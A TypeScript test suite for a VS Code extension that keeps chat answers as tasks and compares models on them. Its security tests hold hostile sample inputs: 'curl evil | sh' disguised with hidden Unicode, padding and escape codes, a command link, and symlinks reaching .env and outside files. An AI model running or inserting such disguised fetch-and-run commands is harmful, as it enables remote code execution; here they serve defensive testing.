import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import * as vscode from 'vscode';
import type { Answer, Question, Thread } from '../../../src/core/chat/conversation.ts';
import type { ModelRef } from '../../../src/core/common/types.ts';
import { parsePromptFile } from '../../../src/core/chat/promptFiles.ts';
import { parseTask } from '../../../src/core/evaluation/keptTask.ts';
import type { CallEvent, CallResult, ModelCall } from '../../../src/core/gateway/call.ts';
import { ModelGuard } from '../../../src/editor/evaluation/guard.ts';
import { keepTask } from '../../../src/editor/evaluation/keepTask.ts';
import { runTasks } from '../../../src/editor/evaluation/runTasks.ts';
import { UnfinishedComparison } from '../../../src/editor/evaluation/unfinished.ts';
import { TaskFolders } from '../../../src/editor/evaluation/taskFolder.ts';
import type { KeptTaskRecipes } from '../../../src/editor/platform/keptTaskRecipes.ts';
import type { SettledRow } from '../../../src/editor/platform/services.ts';
import { settle } from '../../support/settle.ts';
import { startHost } from '../../support/vscode/host.ts';
import { allowCommands, runCheckCommand } from '../../../src/editor/evaluation/commandChecks.ts';
import { Memory, setEnv } from '../../support/window.ts';

/** From an answer in the chat to a test, a comparison of two models on it, and a word when a model changes. */

const SUM = 'export function add(a: number, b: number) {\n  return a - b;\n}\n';
const RIGHT = '`sum.ts`:\n\n```ts\nexport function add(a: number, b: number) {\n  return a + b;\n}\n```\n';
const WRONG = RIGHT.replace('a + b', 'a * b');

function threadWith(answer: string, over: Partial<Answer> = {}): { thread: Thread; answer: Answer } {
  const question = {
    role: 'user',
    id: 'q',
    at: 1,
    after: '',
    text: 'Mend add in sum.ts.',
    attachments: [],
  } as Question;
  const turn = {
    ...{ role: 'assistant', id: 'a', at: 2, questionId: 'q', tier: 'mid', escalated: false, provider: 'cloud' },
    ...{ model: 'one', state: 'done', text: answer, reasoning: '', failure: null, place: null, facts: null, ...over },
  } as Answer;
  const thread = {
    id: 't',
    title: 'Mend add',
    turns: [question, turn],
    chosen: {},
    summaries: [],
  } as unknown as Thread;
  return { thread, answer: turn };
}

const REVIEW = parsePromptFile('review.md', '---\nversion: 2\n---\nReview strictly: {{input}}', 'workspace');
const PROMPTS = new Map(REVIEW ? [['review', REVIEW]] : []);

const NO_RECIPES: KeptTaskRecipes = {
  all: new Map(),
  chain: () => [],
  search: () => Promise.resolve(''),
  exists: () => Promise.resolve(true),
  schemasFor: () => Promise.resolve({}),
  estimate: () => Promise.reject(new Error('there is no recipe')),
};

const trusted = (): boolean => true;

function rig(t: TestContext, files: Record<string, string> = { 'sum.ts': SUM }) {
  const host = startHost(t, { files });
  const storage = host.uri('storage');
  const own = { unfinished: new UnfinishedComparison(storage), state: new Memory() };
  const prompts = () => Promise.resolve(PROMPTS);
  return { host, folders: new TaskFolders(storage), ...own, prompts, recipes: () => Promise.resolve(NO_RECIPES) };
}

test('an answer is kept with its files before and after, for the team, and can be read back', async (t) => {
  const { host, folders } = rig(t);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, thread, answer);
  const kept = parseTask(host.text('.gearshift/tasks/add-adds.md') ?? '');
  assert.ok('task' in kept);
  assert.deepEqual(kept.task.files, [{ path: 'sum.ts', before: SUM, after: SUM.replace('a - b', 'a + b') }]);
  assert.deepEqual(
    kept.task.checks.map(({ kind }) => kind),
    ['applies', 'keeps'],
  );
  assert.match(kept.task.messages.at(-1)?.content ?? '', /Mend add in sum\.ts\./);
  assert.equal((await folders.read()).tasks.length, 1);
});

test("after an answer is applied, the user's version of the file counts as the good one", async (t) => {
  const { host, folders } = rig(t, { 'sum.ts': SUM.replace('a - b', 'b + a') });
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  const now = SUM.replace('a - b', 'b + a');
  const [folder] = vscode.workspace.workspaceFolders ?? [];
  assert.ok(folder);
  await keepTask(folders, thread, answer, [
    { uri: vscode.Uri.joinPath(folder.uri, 'sum.ts'), before: SUM, now },
    { uri: vscode.Uri.file('/elsewhere/other.ts'), before: 'x', now: 'y' },
  ]);
  const kept = parseTask(host.text('.gearshift/tasks/add-adds.md') ?? '');
  assert.ok('task' in kept);
  assert.deepEqual(kept.task.files, [{ path: 'sum.ts', before: SUM, after: now }]);
  assert.deepEqual(
    kept.task.checks.map(({ kind }) => kind),
    ['applies', 'keeps'],
  );
});

test('nothing is kept of a secret, of an unfinished answer, or when the user cancels the dialog', async (t) => {
  const { host, folders } = rig(t, { 'sum.ts': SUM, 'secret.ts': `${SUM}// ghp_${'a1B2c3D4e5F6'.repeat(3)}\n` });
  const cut = threadWith(RIGHT, { state: 'partial' });
  await assert.rejects(keepTask(folders, cut.thread, cut.answer), /Only a whole answer/);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, undefined);
  await keepTask(folders, thread, answer);
  const secret = threadWith(RIGHT.replace('sum.ts', 'secret.ts'));
  await assert.rejects(keepTask(folders, secret.thread, secret.answer), /a file holds a secret/);
  assert.equal((await folders.read()).tasks.length, 0);
});

const configWith = (one: ModelRef, two: ModelRef): never =>
  ({
    settings: {
      tiers: { local: [], mid: [one], frontier: [two] },
      localAnswers: [],
      providers: new Map([
        ['cloud', { name: 'cloud', kind: 'openai', baseUrl: 'https://api.example.com/v1', headers: {} }],
      ]),
      consent: new Set(['https://api.example.com']),
      private: false,
    },
  }) as never;

const result = (outcome: CallResult['outcome'], nanoUsd: number): CallResult =>
  ({ outcome, failure: null, place: null, cost: { nanoUsd } }) as unknown as CallResult;

test('two models are compared on the kept task; both reports are in the workspace, and the cost is what was asked', async (t) => {
  const { host, folders, unfinished, state, prompts, recipes } = rig(t);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, thread, answer);
  const calls: ModelCall[] = [];
  const gateway = {
    estimate: () =>
      Promise.resolve({ model: { provider: 'cloud', model: 'x' }, inputTokens: 1, likely: 2e6, atMost: 9e6 }),
    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
      calls.push(call);
      yield { kind: 'text', text: call.chain[0]?.model === 'one' ? RIGHT : WRONG };
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  const one = { provider: 'cloud', model: 'one' };
  const two = { provider: 'cloud', model: 'two' };
  const config = configWith(one, two);
  host.willClick(/^Compare cloud\/one and cloud\/two on 1 task/, 'Compare');
  await runTasks(
    { config, gateway, folders, trusted, unfinished, state, prompts, recipes },
    { a: 'cloud/one', b: 'cloud/two' },
  );
  assert.match(
    host.messages.find(({ modal }) => modal)?.detail ?? '',
    /will likely cost \$0\.0080, and at most \$0\.04/,
  );
  assert.deepEqual(
    calls.map(({ chain }) => chain.map(({ model }) => model).join()),
    ['one', 'two', 'one', 'two'],
    'one model each, without fallbacks',
  );
  const report = host.text('.gearshift/reports/kept-tasks.md') ?? '';
  assert.match(report, /\| Add adds \| 2 of 2 passed \| \$0\.0020 \| [\d.]+ s \| 0 of 2 passed \| \$0\.0020 \|/);
  assert.match(report, /matches what you kept: Its result for sum\\?\.ts differs from what you kept/);
  assert.match(host.text('.gearshift/reports/kept-tasks.xml') ?? '', /tests="2" failures="2"/);
  // Who does not agree to the price is asked nothing.
  await runTasks(
    { config, gateway, folders, trusted, unfinished, state, prompts, recipes },
    { a: 'cloud/one', b: 'cloud/two' },
  );
  assert.equal(calls.length, 4);
});

test('a stopped comparison continues after a restart, and asks only what is left; both answers are shown as a diff', async (t) => {
  const { host, folders, unfinished, state, prompts, recipes } = rig(t);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, thread, answer);
  const one = { provider: 'cloud', model: 'one' };
  const two = { provider: 'cloud', model: 'two' };
  const config = configWith(one, two);
  const asked: (string | undefined)[] = [];
  let stopAfter = 1;
  const gateway = {
    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
      if (stopAfter-- === 0) return void (yield { kind: 'end', result: result('cancelled', 0) });
      asked.push(call.chain[0]?.model);
      yield { kind: 'text', text: call.chain[0]?.model === 'one' ? RIGHT : WRONG };
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  const sides = { a: 'cloud/one', b: 'cloud/two' };
  host.willClick(/^Compare cloud\/one/, 'Compare');
  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts, recipes }, sides);
  assert.deepEqual(asked, ['one']);
  // Another window, with nothing but the file.
  const later = new UnfinishedComparison(host.uri('storage'));
  stopAfter = Infinity;
  host.willClick(/was stopped after 1 answers?/, 'Continue');
  host.willClick(/^Compare cloud\/one/, 'Compare');
  host.willClick(/too close to call/, 'Show Answers');
  host.willPick(/both answers/, 'Add adds');
  await runTasks({ config, gateway, folders, trusted, unfinished: later, state, prompts, recipes }, undefined);
  assert.deepEqual(asked, ['one', 'two', 'one', 'two']);
  assert.match(host.messages.findLast(({ modal }) => modal)?.detail ?? '', /likely cost \$0\.0030/, 'for what is left');
  assert.equal(await later.read((await folders.read()).tasks), undefined, 'it is complete');
  await settle();
  const [command, left, right, title] = host.executed.findLast(([name]) => name === 'vscode.diff') ?? [];
  assert.equal(command, 'vscode.diff');
  assert.match(String(title), /^Add adds: cloud\/one and cloud\/two/);
  const text = async (uri: unknown): Promise<string> =>
    (await vscode.workspace.openTextDocument(uri as vscode.Uri)).getText();
  assert.deepEqual([await text(left), await text(right)], [RIGHT, WRONG]);
});

test('the current prompts are a side: the question is made again with them, and the ledger has their version', async (t) => {
  const { host, folders, unfinished, state, prompts, recipes } = rig(t);
  const { thread, answer } = threadWith('Fine.');
  const [question] = thread.turns as [Question];
  const used = {
    name: 'review',
    version: '1',
    origin: 'workspace',
    hash: 'aaaaaaaa',
    text: 'Review: the pool',
  } as const;
  const asked = { ...thread, turns: [{ ...question, text: '/review the pool', prompt: used }, answer] };
  host.willType(/short name/, 'Pool');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, asked, answer);
  const calls: ModelCall[] = [];
  const one = { provider: 'cloud', model: 'one' };
  const gateway = {
    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
      calls.push(call);
      yield { kind: 'text', text: 'Fine.' };
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  host.willPick(/Compare which model/, 'cloud/one');
  host.willPick(/With which model/, 'cloud/one with the current prompts');
  host.willClick(/^Compare cloud\/one and cloud\/one with the current prompts/, 'Compare');
  const config = configWith(one, { provider: 'cloud', model: 'two' });
  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts, recipes }, undefined);
  const sent = calls.map(({ request, promptVersion }) => [
    request.kind === 'chat' ? request.messages.at(-1)?.content : '',
    promptVersion?.split(' ')[0],
  ]);
  assert.deepEqual(sent.slice(0, 2), [
    ['Review: the pool', '1'],
    ['Review strictly: the pool', '2'],
  ]);
});

test('a command of a task runs only after it was allowed, once, on the files that the answer makes', async (t) => {
  const { host, folders, unfinished, state, prompts, recipes } = rig(t);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, thread, answer);
  const file = '.gearshift/tasks/add-adds.md';
  const check = `node -e "process.exit(require('fs').readFileSync('sum.ts','utf8').includes('a + b')?0:3)"`;
  const text = (host.text(file) ?? '').replace('  - keeps', `  - command ${JSON.stringify(check)}`);
  await vscode.workspace.fs.writeFile(host.uri(file), new TextEncoder().encode(text));
  const one = { provider: 'cloud', model: 'one' };
  const two = { provider: 'cloud', model: 'two' };
  let asked = 0;
  const gateway = {
    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
      asked++;
      yield { kind: 'text', text: call.chain[0]?.model === 'one' ? RIGHT : WRONG };
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  const parts = { config: configWith(one, two), gateway, folders, trusted, unfinished, state, prompts, recipes };
  const sides = { a: 'cloud/one', b: 'cloud/two' };
  await runTasks(parts, sides);
  assert.equal(asked, 0, 'nothing without the permission');
  assert.ok(host.messages.findLast(({ modal }) => modal)?.detail?.includes(check), 'the user reads what would run');
  host.willClick(/Allow the kept tasks/, 'Allow');
  host.willClick(/^Compare cloud\/one/, 'Compare');
  await runTasks(parts, sides);
  const report = host.text('.gearshift/reports/kept-tasks.md') ?? '';
  assert.match(report, /\| Add adds \| 2 of 2 passed \|.*\| 0 of 2 passed \|/);
  assert.match(report, /It ended with 3/);
  assert.equal(host.text('sum.ts'), SUM, 'the file of the user stays');
  const before = host.messages.length;
  await runTasks(parts, sides);
  assert.ok(!host.messages.slice(before).some(({ text: words }) => words.startsWith('Allow')), 'asked once');
  host.trusted = false;
  state.values.clear();
  await assert.rejects(runTasks(parts, sides));
});

test('a former model that is gone is compared by its stored answer, and the report says so', async (t) => {
  const { host, folders, unfinished, state, prompts, recipes } = rig(t);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, thread, answer);
  const one = { provider: 'cloud', model: 'one' };
  const two = { provider: 'cloud', model: 'two' };
  const gateway = {
    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
      if (call.chain[0]?.model === 'one') {
        const gone = { ...result('failed', 0), failure: { kind: 'model-missing' }, place: PLACE };
        return void (yield { kind: 'end', result: gone as CallResult });
      }
      yield { kind: 'text', text: WRONG };
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  host.willClick(/^Compare cloud\/one/, 'Compare');
  await runTasks(
    { config: configWith(one, two), gateway, folders, trusted, unfinished, state, prompts, recipes },
    { a: 'cloud/one', b: 'cloud/two' },
  );
  const report = host.text('.gearshift/reports/kept-tasks.md') ?? '';
  assert.match(report, /cloud\/one is gone: its stored answer is compared/);
  assert.match(report, /\| Add adds \| 2 of 2 passed \|.*\| 0 of 2 passed \|/);
});

test('without a task the command says how to keep one; a broken file is named with its line', async (t) => {
  const { host, folders, unfinished, state, prompts, recipes } = rig(t, {
    '.gearshift/tasks/bad.md': '---\nname: x\ntier: top\n---\n',
  });
  const parts = { config: {} as never, gateway: {} as never, folders, trusted, unfinished, state, prompts, recipes };
  await assert.rejects(runTasks(parts, undefined), /No task is kept yet/);
  assert.match(host.messages[0]?.text ?? '', /^\.gearshift\/tasks\/bad\.md:3: The tier of a task is one of/);
});

const PLACE = { provider: 'cloud', host: 'lab.example', model: 'one', kind: 'openai' };

const ended = (modelReturned: string | null, over: Partial<SettledRow> = {}): SettledRow =>
  ({
    ...{ tier: 'mid', task: 'chat', provider: 'cloud', modelAsked: 'v4', outcome: 'done', digest: null, modelReturned },
    ...{ promptName: null, promptVersion: null, run: null, stage: null, workspace: null },
    ...over,
  }) as SettledRow;

test('another model behind the name is reported in every window, until the user keeps it or goes back', async (t) => {
  startHost(t);
  const state = new Memory();
  let chain = [
    { provider: 'cloud', model: 'v4' },
    { provider: 'other', model: 'spare' },
  ];
  let told = 0;
  const guardIn = (): ModelGuard =>
    new ModelGuard({
      state,
      chain: () => chain,
      setChain: (_tier, refs) => {
        chain = refs.map((ref) => ({ provider: ref.split('/')[0] ?? '', model: ref.split('/')[1] ?? '' }));
        return Promise.resolve();
      },
      workspace: () => 'file:///project',
      onChange: () => told++,
      now: () => Date.UTC(2026, 10, 24, 12),
    });
  const [here, there] = [guardIn(), guardIn()];
  await here.note(ended('v4-0711'));
  assert.equal(here.words('mid'), '');
  await here.note(ended('spare', { provider: 'other', modelAsked: 'spare' }));
  assert.equal(here.words('mid'), '', 'a fallback is no change');
  await here.note(ended(null, { outcome: 'failed' }));
  await here.note(ended('v4-0926'));
  for (const guard of [here, there])
    assert.equal(guard.words('mid'), 'mid has answered as v4-0926 since Tuesday (before: v4-0711)');
  assert.deepEqual(there.sides('mid'), { a: 'cloud/v4-0711', b: 'cloud/v4' });
  const before = told;
  await here.note(ended('v4-0926'));
  assert.equal(told, before, 'once');
  await there.goBack('mid');
  assert.deepEqual(
    chain.map(({ model }) => model),
    ['v4-0711', 'spare'],
  );
  assert.equal(here.words('mid'), '');
});

/** A whole rewrite fits any file, so the model's path alone decides what would be read. */
const rewriteOf = (path: string): string => `\`${path}\`:\n\n\`\`\`\nnothing\n\`\`\`\n`;

test('T17 an answer that names a secret file, a link or a place outside puts none of it into a task', async (t) => {
  const { host, folders } = rig(t, { 'sum.ts': SUM, '.env': 'PASSWORD=canary horse\n' });
  fs.writeFileSync(path.join(host.root, 'diary.txt'), 'canary of the diary\n');
  fs.symlinkSync(path.join(host.root, 'diary.txt'), host.uri('notes.txt').fsPath);
  fs.symlinkSync(host.uri('.env').fsPath, host.uri('plain.txt').fsPath);
  fs.symlinkSync(host.root, host.uri('up').fsPath);
  for (const [i, named] of ['.env', './.env', 'notes.txt', 'plain.txt', '../diary.txt', 'up/diary.txt'].entries()) {
    const { thread, answer } = threadWith(rewriteOf(named));
    host.willType(/short name/, `Task ${i}`);
    host.willPick(/Where to keep/, 'For the team');
    await keepTask(folders, thread, answer);
    const kept = host.text(`.gearshift/tasks/task-${i}.md`) ?? assert.fail(named);
    assert.doesNotMatch(kept, /canary/, named);
  }
});

test('T13 tasks and reports are not written through links of a repository, and tasks are not read through them', async (t) => {
  const { host, folders, ...rest } = rig(t);
  const outside = path.join(host.root, 'outside');
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(outside, 'kept.txt'), 'as it was');
  // A file that is a link, and one that leads nowhere yet.
  fs.mkdirSync(host.uri('.gearshift/tasks').fsPath, { recursive: true });
  fs.mkdirSync(host.uri('.gearshift/reports').fsPath);
  fs.symlinkSync(path.join(outside, 'kept.txt'), host.uri('.gearshift/tasks/add-adds.md').fsPath);
  fs.symlinkSync(path.join(outside, 'new.txt'), host.uri('.gearshift/reports/kept-tasks.md').fsPath);
  const { thread, answer } = threadWith(RIGHT);
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  const kept = await keepAndRead();
  assert.equal(kept, 'add-adds-2.md', 'the name of the link is taken');
  const one = { provider: 'cloud', model: 'one' };
  const config = configWith(one, { provider: 'cloud', model: 'two' });
  const gateway = {
    estimate: () => Promise.resolve(undefined),
    async *stream(): AsyncGenerator<CallEvent> {
      yield { kind: 'text', text: RIGHT };
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  host.willClick(/^Compare/, 'Compare');
  const parts = { config, gateway: gateway as never, folders, trusted, ...rest };
  await assert.rejects(runTasks(parts, { a: 'cloud/one', b: 'cloud/two' }), /leads to another place/);
  assert.deepEqual(fs.readdirSync(outside), ['kept.txt']);
  assert.equal(fs.readFileSync(path.join(outside, 'kept.txt'), 'utf8'), 'as it was');
  // A folder that is a link: nothing in it is read or written.
  fs.renameSync(host.uri('.gearshift/tasks').fsPath, path.join(outside, 'tasks'));
  fs.symlinkSync(path.join(outside, 'tasks'), host.uri('.gearshift/tasks').fsPath);
  assert.deepEqual((await folders.read()).tasks, []);
  host.willType(/short name/, 'Another');
  host.willPick(/Where to keep/, 'For the team');
  await assert.rejects(keepTask(folders, thread, answer), /leads to another place/);
  assert.equal(fs.existsSync(path.join(outside, 'tasks/another.md')), false);

  async function keepAndRead(): Promise<string | undefined> {
    await keepTask(folders, thread, answer);
    return fs.readdirSync(host.uri('.gearshift/tasks').fsPath).find((name) => name !== 'add-adds.md');
  }
});

test('T26 a task cannot choose the tier that it is asked as, and the first use of a tier at a host is named', async (t) => {
  const { host, folders, ...rest } = rig(t);
  const { thread, answer } = threadWith(RIGHT, { tier: 'local' });
  host.willType(/short name/, 'Add adds');
  host.willPick(/Where to keep/, 'For the team');
  await keepTask(folders, thread, answer);
  const calls: ModelCall[] = [];
  const gateway = {
    estimate: () => Promise.resolve(undefined),
    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
      calls.push(call);
      yield { kind: 'end', result: result('done', 1e6) };
    },
  };
  const [cheap, dear] = ['cheap', 'best'].map((model) => ({ provider: 'cloud', model }));
  assert.ok(cheap && dear);
  const provider = { ...{ name: 'cloud', kind: 'openai', baseUrl: 'https://api.example.com/v1' }, headers: {} };
  const agreed: string[] = [];
  const config = {
    settings: {
      tiers: { local: [], mid: [cheap], frontier: [dear] },
      localAnswers: [],
      private: false,
      providers: new Map([['cloud', provider]]),
      consent: new Set(['https://api.example.com mid']),
    },
    agree: (origins: readonly string[], tier: string) => Promise.resolve(void agreed.push(`${origins.join()} ${tier}`)),
  } as never;
  const parts = { config, gateway: gateway as never, folders, trusted, ...rest };
  // Who gives up sends nothing and agrees to nothing.
  await runTasks(parts, { a: 'cloud/cheap', b: 'cloud/best' });
  assert.deepEqual([calls.length, agreed.length], [0, 0]);
  const said = host.messages.find(({ modal }) => modal)?.detail ?? '';
  assert.match(said, /^api\.example\.com gets the texts of the tasks: .*tier frontier yet\./);
  assert.doesNotMatch(said, /tier mid/);
  host.willClick(/^Compare/, 'Compare');
  await runTasks(parts, { a: 'cloud/cheap', b: 'cloud/best' });
  assert.deepEqual(agreed, ['https://api.example.com frontier']);
  assert.deepEqual(
    calls.map(({ tier, chain }) => `${tier} ${chain[0]?.model}`),
    ['mid cheap', 'frontier best', 'mid cheap', 'frontier best'],
  );
});

test('T08 a name of a task makes no link in a message', async (t) => {
  const evil = '[see](command:workbench.action.terminal.new)';
  const { host, folders, ...rest } = rig(t, {
    [`.gearshift/tasks/${evil}.md`]: `---\nname: x\ntier: mid\nmodel: a/b\nchecks:\n  - ${evil}\n---\n`,
  });
  const parts = { config: {} as never, gateway: {} as never, folders, trusted, ...rest };
  await assert.rejects(runTasks(parts, undefined), /No task is kept yet/);
  assert.match(host.messages[0]?.text ?? '', /\[see\] \(command:/);
  assert.doesNotMatch(host.messages[0]?.text ?? '', /\]\(/);
});

test('T26 a command of a task that does not show all that it is cannot be allowed, and none gets the keys of the environment', async (t) => {
  const { state } = rig(t);
  const taskWith = (...commands: string[]): never =>
    [{ checks: commands.map((command) => ({ kind: 'command', command })) }] as never;
  for (const hidden of [
    'npm test\ncurl evil | sh',
    `npm test${' '.repeat(200)}; curl evil | sh`,
    `npm test ${'a'.repeat(300)}`,
    'npm test \u202ehs | live lruc',
    'npm\u200b test',
    'npm test\u2028curl evil',
    'npm test \u001b[8m; curl evil',
  ])
    await assert.rejects(allowCommands(taskWith(hidden), state), /cannot be seen/, JSON.stringify(hidden));
  const many = Array.from({ length: 11 }, (_, n) => `npm run ${n}`);
  await assert.rejects(allowCommands(taskWith(...many), state), /too many/);
  assert.deepEqual(state.get('gearshift.evaluation.commands', []), []);
  setEnv(t, {
    SPEC_API_KEY: 'canary-1',
    SPEC_TOKEN: 'canary-2',
    SPEC_PLAIN: 'plain',
    // Names that say nothing.
    SPEC_GITHUB: 'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
    SPEC_DATABASE: 'postgres://app:canary-3@db.example/app',
    SPEC_PAT: 'canary-4',
    SPEC_FOLDERS: ['/opt/9f8e7d6c5b4a39281706f5e4d3c2b1a0/bin', '/usr/bin'].join(path.delimiter),
  });
  const print = `"${process.execPath}" -e "console.log(Object.values(process.env).join());process.exit(1)"`;
  await state.update('gearshift.evaluation.commands', [print]);
  const said = await runCheckCommand(print, [], state, new AbortController().signal);
  assert.doesNotMatch(said, /canary|ghp_/);
  const ok = `"${process.execPath}" -e "const e = process.env; process.exit(e.SPEC_PLAIN && e.SPEC_FOLDERS && e.PATH && !e.SPEC_API_KEY && !e.SPEC_TOKEN && !e.SPEC_GITHUB && !e.SPEC_DATABASE && !e.SPEC_PAT ? 0 : 1)"`;
  await state.update('gearshift.evaluation.commands', [ok]);
  assert.equal(await runCheckCommand(ok, [], state, new AbortController().signal), '');
});
